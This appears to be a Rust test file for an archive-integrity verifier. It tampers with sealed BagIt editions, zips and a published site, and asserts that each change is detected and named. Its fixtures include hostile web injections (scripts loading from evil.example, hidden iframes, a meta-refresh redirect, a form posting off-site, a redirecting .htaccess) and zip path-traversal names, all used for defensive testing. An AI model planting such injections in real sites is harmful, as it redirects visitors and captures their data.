//! Seeded attacks on sealed editions and on a published site: each is found and named, and a clean copy raises no alarm.

#![allow(clippy::disallowed_methods, clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::fs;
use std::io::{Cursor, Write};
use std::path::PathBuf;

use sha2::{Digest, Sha256, Sha512};
use zip::write::SimpleFileOptions;

use crate::archive::{BAG, SEALED, said, sealed};
use crate::desk::{Desk, copy};
use niengiam::tree::sha256_hex;

type Files = BTreeMap<String, Vec<u8>>;

/// A page of the payload, and a file of its data.
const PAGE: &str = "data/sipas/index.html";
const CSV: &str = "data/data/sipas.csv";

/// A desk with a sealed edition; the version folder is what attackers get at.
struct Vault {
    desk: Desk,
}

impl Vault {
    fn new() -> Self {
        let desk = Desk::new();
        sealed(&desk);
        Self { desk }
    }

    fn folder(&self) -> PathBuf {
        self.desk.path(&format!("{SEALED}/v1.0.0"))
    }

    fn bag(&self) -> Files {
        self.desk.files(&format!("{SEALED}/v1.0.0/{BAG}"))
    }

    /// A copy of the bag alone, changed, as a folder.
    fn copy_folder(&self, files: &Files) -> String {
        let place = self.desk.path("copy");
        let _ = fs::remove_dir_all(&place);
        for (path, bytes) in files {
            let file = place.join(BAG).join(path);
            fs::create_dir_all(file.parent().unwrap()).unwrap();
            fs::write(file, bytes).unwrap();
        }
        format!("copy/{BAG}")
    }

    /// The same as a zip with a true hash beside it.
    fn copy_zip(&self, files: &Files) -> String {
        let entries: Vec<(String, Vec<u8>)> =
            files.iter().map(|(path, bytes)| (format!("{BAG}/{path}"), bytes.clone())).collect();
        self.lay_zip(&packed(&entries))
    }

    fn lay_zip(&self, bytes: &[u8]) -> String {
        self.desk.write(&format!("zips/{BAG}.zip"), bytes);
        self.desk.write(&format!("zips/{BAG}.zip.sha256"), format!("{}  {BAG}.zip\n", sha256_hex(bytes)));
        format!("zips/{BAG}.zip")
    }

    /// What is found in a copy, as `name path`.
    fn found(&self, path: &str) -> Vec<String> {
        let output = self.desk.run(&["verify", path, "--format", "json"]);
        let value: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        let findings = value["findings"].as_array().unwrap();
        let named =
            findings.iter().map(|one| format!("{} {}", one["wrong"].as_str().unwrap(), one["path"].as_str().unwrap()));
        let named: Vec<String> = named.collect();
        assert_eq!(output.status.code(), Some(i32::from(!named.is_empty())), "{named:?}");
        assert_eq!(value["sound"], named.is_empty());
        named
    }

    /// An attack on the files of a bag is found in the folder and in the zip.
    fn attack(&self, what: &str, change: impl Fn(&mut Files), expected: &[&str]) {
        let mut files = self.bag();
        change(&mut files);
        for copy in [self.copy_folder(&files), self.copy_zip(&files)] {
            let found = self.found(&copy);
            for name in expected {
                assert!(found.iter().any(|one| one == name), "{what}, {copy}: {name} is not among {found:?}");
            }
        }
    }
}

fn packed(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().unix_permissions(0o644).last_modified_time(zip::DateTime::default());
    for (name, bytes) in entries {
        zip.start_file(name.as_str(), options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Puts markup in before the end of a page.
fn inject(files: &mut Files, path: &str, markup: &str) {
    let text = String::from_utf8(files[path].clone()).unwrap();
    assert!(text.contains("</main>"));
    files.insert(path.to_owned(), text.replace("</main>", &format!("{markup}</main>")).into_bytes());
}

/// Manifests and size as an attacker who knows the format would make them anew.
fn recompute(files: &mut Files) {
    let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
    let payload: Files =
        files.iter().filter(|(path, _)| path.starts_with("data/")).map(|(p, b)| (p.clone(), b.clone())).collect();
    let bytes: usize = payload.values().map(Vec::len).sum();
    let info = String::from_utf8(files["bag-info.txt"].clone()).unwrap();
    let oxum = format!("Payload-Oxum: {bytes}.{}", payload.len());
    let info: String = info
        .lines()
        .map(|line| if line.starts_with("Payload-Oxum") { format!("{oxum}\n") } else { format!("{line}\n") })
        .collect();
    files.insert("bag-info.txt".to_owned(), info.into_bytes());
    let mut list = |name: &str, listed: &Files| {
        let line = |hash: &dyn Fn(&[u8]) -> String| -> String {
            listed.iter().map(|(path, bytes)| format!("{}  {path}\n", hash(bytes))).collect()
        };
        files.insert(format!("{name}-sha256.txt"), line(&|bytes| hex(&Sha256::digest(bytes))).into_bytes());
        files.insert(format!("{name}-sha512.txt"), line(&|bytes| hex(&Sha512::digest(bytes))).into_bytes());
    };
    list("manifest", &payload);
    let tags = |files: &Files| -> Files {
        let tags = files.iter().filter(|(path, _)| !path.starts_with("data/") && !path.starts_with("tagmanifest"));
        tags.map(|(path, bytes)| (path.clone(), bytes.clone())).collect()
    };
    let tags = tags(files);
    let line = |hash: &dyn Fn(&[u8]) -> String| -> String {
        tags.iter().map(|(path, bytes)| format!("{}  {path}\n", hash(bytes))).collect()
    };
    files.insert("tagmanifest-sha256.txt".to_owned(), line(&|bytes| hex(&Sha256::digest(bytes))).into_bytes());
    files.insert("tagmanifest-sha512.txt".to_owned(), line(&|bytes| hex(&Sha512::digest(bytes))).into_bytes());
}

#[test]
fn a_clean_copy_raises_no_alarm() {
    let vault = Vault::new();
    let files = vault.bag();
    let mut same = files.clone();
    recompute(&mut same);
    assert!(same == files, "the attackers of these tests know the format");
    for path in [
        vault.copy_folder(&files),
        vault.copy_zip(&files),
        format!("{SEALED}/v1.0.0/{BAG}"),
        format!("{SEALED}/v1.0.0/{BAG}.zip"),
    ] {
        assert!(vault.found(&path).is_empty(), "{path}: {:?}", vault.found(&path));
    }
    said(&vault.desk.run(&["build", "-q"]), 0);
    assert!(vault.found("output").is_empty(), "{:?}", vault.found("output"));
    for (language, word) in [("vi", "nguyên vẹn: output"), ("en", "sound: output")] {
        let told = said(&vault.desk.run(&["verify", "output", "--lang", language]), 0);
        assert!(told.starts_with(word), "{told}");
    }
}

#[test]
fn what_is_put_into_pages_is_named() {
    let vault = Vault::new();
    let changed = format!("changed {PAGE}");
    for (what, markup, name) in [
        ("hidden link", "<a href=\"https://evil.example/\" style=\"display:none\">x</a>", "link"),
        ("hidden by style", "<a href=\"https://evil.example/\" style=\"display:none\">x</a>", "hidden"),
        ("script", "<script src=\"https://evil.example/x.js\"></script>", "script"),
        ("inline script", "<script>location='https://evil.example/'</script>", "script"),
        ("handler", "<p onclick=\"x()\">x</p>", "handler"),
        ("frame", "<iframe src=\"https://evil.example/\"></iframe>", "frame"),
        ("redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">", "redirect"),
        ("form", "<form action=\"https://evil.example/\"><input name=\"a\"></form>", "form-element"),
    ] {
        vault.attack(what, |files| inject(files, PAGE, markup), &[&changed, &format!("{name} {PAGE}")]);
    }
}

#[test]
fn files_that_were_added_changed_or_taken_are_named() {
    let vault = Vault::new();
    let font = vault.bag().into_keys().find(|path| path.starts_with("data/assets/style-")).unwrap();
    vault.attack(
        "extra page",
        |f| drop(f.insert("data/sale/index.html".into(), b"<p>x".to_vec())),
        &["added data/sale/index.html"],
    );
    vault.attack(
        "redirect stub",
        |files| {
            let stub = "<meta http-equiv=refresh content='0;url=https://evil.example/'>";
            files.insert(PAGE.to_owned(), stub.as_bytes().to_vec());
        },
        &[&format!("changed {PAGE}"), &format!("redirect {PAGE}")],
    );
    vault.attack("altered digit", |f| alter_digit(f, CSV), &[&format!("changed {CSV}")]);
    vault.attack("swapped asset", |f| drop(f.insert(font.clone(), b"p{}".to_vec())), &[&format!("changed {font}")]);
    vault.attack("deleted page", |f| drop(f.remove(PAGE)), &[&format!("missing {PAGE}")]);
    vault.attack(
        "changed bag-info",
        |files| {
            let text = String::from_utf8(files["bag-info.txt"].clone()).unwrap();
            files.insert("bag-info.txt".into(), text.replace("2025-01-01", "2024-01-01").into_bytes());
        },
        &["changed bag-info.txt"],
    );
    vault.attack(
        "reordered manifest",
        |files| {
            let text = String::from_utf8(files["manifest-sha256.txt"].clone()).unwrap();
            let lines: String = text.lines().rev().map(|line| format!("{line}\n")).collect();
            files.insert("manifest-sha256.txt".into(), lines.into_bytes());
        },
        &["form manifest-sha256.txt", "changed manifest-sha256.txt"],
    );
    vault.attack("fetch.txt", |f| drop(f.insert("fetch.txt".into(), b"x".to_vec())), &["added fetch.txt"]);
}

/// Turns the last digit of a file into another.
fn alter_digit(files: &mut Files, path: &str) {
    let bytes = files.get_mut(path).unwrap();
    let at = bytes.iter().rposition(u8::is_ascii_digit).unwrap();
    bytes[at] = if bytes[at] == b'9' { b'8' } else { bytes[at] + 1 };
}

#[test]
fn a_number_altered_with_all_manifests_made_anew_is_found_by_what_lies_outside() {
    let vault = Vault::new();
    // Whoever forgets the records inside is found by them.
    let records = [&*format!("disagrees {CSV}")];
    vault.attack(
        "manifests made anew",
        |f| {
            alter_digit(f, CSV);
            recompute(f);
        },
        &records,
    );
    // Whoever makes a folder anew is found by the zip beside it.
    let folder = vault.folder();
    let mut files = vault.bag();
    inject(&mut files, PAGE, "x");
    recompute(&mut files);
    for (path, bytes) in &files {
        fs::write(folder.join(BAG).join(path), bytes).unwrap();
    }
    let found = vault.found(&format!("{SEALED}/v1.0.0/{BAG}"));
    assert!(found.contains(&format!("folder {BAG}")), "{found:?}");
    // Whoever makes the zip anew too, by the hash beside it.
    let entries: Vec<_> = files.iter().map(|(path, bytes)| (format!("{BAG}/{path}"), bytes.clone())).collect();
    let bytes = packed(&entries);
    let zip = format!("{SEALED}/v1.0.0/{BAG}.zip");
    let genuine = fs::read(vault.desk.path(&zip)).unwrap();
    vault.desk.write(&zip, &bytes);
    assert!(vault.found(&zip).contains(&format!("sum {BAG}.zip")));
    // Whoever makes that hash anew as well, by the version after it.
    vault.desk.write(&zip, &genuine);
    vault.desk.write("content/editions/sipas/viet-nam/2020/overview.en.md", "# The year\n\nOther words.\n");
    sealed(&vault.desk);
    vault.desk.write(&zip, &bytes);
    vault.desk.write(&format!("{zip}.sha256"), format!("{}  {BAG}.zip\n", sha256_hex(&bytes)));
    let found = vault.found(&zip);
    assert!(found.contains(&format!("chain {BAG}.zip")), "{found:?}");
    vault.desk.write(&zip, &genuine);
    vault.desk.write(&format!("{zip}.sha256"), format!("{}  {BAG}.zip\n", sha256_hex(&genuine)));
    assert!(vault.found(&zip).is_empty(), "{:?}", vault.found(&zip));
}

#[test]
fn what_is_done_to_a_zip_is_named() {
    let vault = Vault::new();
    let genuine = fs::read(vault.folder().join(format!("{BAG}.zip"))).unwrap();
    let named = |bytes: &[u8], name: &str| {
        let path = vault.lay_zip(bytes);
        let found = vault.found(&path);
        assert!(found.iter().any(|one| one.starts_with(name)), "{name} is not among {found:?}");
    };
    named(&genuine[..genuine.len() / 2], "zip-broken");
    named(&genuine[..genuine.len() - 1], "zip-broken");
    named(&[&genuine[..], b"<script>alert(1)</script>"].concat(), "zip-behind");
    named(&[b"MZ", &genuine[..]].concat(), "zip-before");
    let entries = |extra: &str| {
        let files = vault.bag();
        let mut all: Vec<_> = files.iter().map(|(path, bytes)| (format!("{BAG}/{path}"), bytes.clone())).collect();
        all.push((extra.to_owned(), b"x".to_vec()));
        all
    };
    named(&packed(&entries(&format!("{BAG}/../../evil.html"))), "zip-name");
    named(&packed(&entries("evil.html")), "added");
    named(&packed(&entries(&format!("{BAG}/BAGIT.txt"))), "zip-double");
    // The same name twice: no writer makes that, so two names of one length become one.
    let twin = packed(&entries(&format!("{BAG}/bagit.tx_")));
    let text = format!("{BAG}/bagit.tx_").into_bytes();
    let mut twice = twin.clone();
    for at in 0..twin.len() - text.len() {
        if twin[at..].starts_with(&text) {
            twice[at + text.len() - 1] = b't';
        }
    }
    named(&twice, "zip-double");
    fs::remove_file(vault.desk.path(&format!("zips/{BAG}.zip.sha256"))).unwrap();
    vault.desk.write(&format!("zips/{BAG}.zip"), &genuine);
    assert_eq!(vault.found(&format!("zips/{BAG}.zip")), [format!("sum-missing {BAG}.zip")]);
}

#[test]
fn a_published_site_is_held_against_its_manifest_and_against_one_from_elsewhere() {
    let vault = Vault::new();
    let desk = &vault.desk;
    said(&desk.run(&["build", "-q"]), 0);
    copy(&desk.path("output"), &desk.path("trusted"));
    let page = desk.path("output/sipas/index.html");
    let text = fs::read_to_string(&page).unwrap();
    fs::write(&page, text.replace("</main>", "<iframe src=x></iframe></main>")).unwrap();
    desk.write("output/.htaccess", "Redirect / https://evil.example/");
    desk.write("output/archive/extra.html", "x");
    fs::remove_file(desk.path("output/robots.txt")).unwrap();
    let expected = [
        "added .htaccess",
        "added archive/extra.html",
        "missing robots.txt",
        "changed sipas/index.html",
        "frame sipas/index.html",
    ];
    assert_eq!(vault.found("output"), expected);
    // A manifest made anew deceives the folder alone, not a manifest that was kept elsewhere.
    let manifest = fs::read_to_string(desk.path("output/manifest.json")).unwrap();
    let (old, new) = (sha256_hex(text.as_bytes()), sha256_hex(&fs::read(&page).unwrap()));
    desk.write("output/manifest.json", manifest.replace(&old, &new));
    let output = desk.run(&["verify", "output", "--manifest", "trusted/manifest.json", "--lang", "en"]);
    let told = said(&output, 1);
    for line in ["changed: manifest.json", "changed: sipas/index.html", "missing: robots.txt"] {
        assert!(told.contains(line), "{line}: {told}");
    }
    // A manifest in another form.
    desk.write("output/manifest.json", manifest.replace("  \"algorithm\"", "\"algorithm\""));
    assert!(vault.found("output").contains(&"form manifest.json".to_owned()));
}

#[test]
fn what_is_no_copy_is_told() {
    let desk = Desk::new();
    assert!(said(&desk.run(&["verify", "content", "--lang", "en"]), 3).contains("neither a bag"));
    assert!(said(&desk.run(&["verify", "nowhere", "--lang", "en"]), 3).contains("nowhere"));
    desk.write("x.zip", "no zip");
    assert!(said(&desk.run(&["verify", "x.zip", "--lang", "en"]), 1).contains("no zip at all"));
}
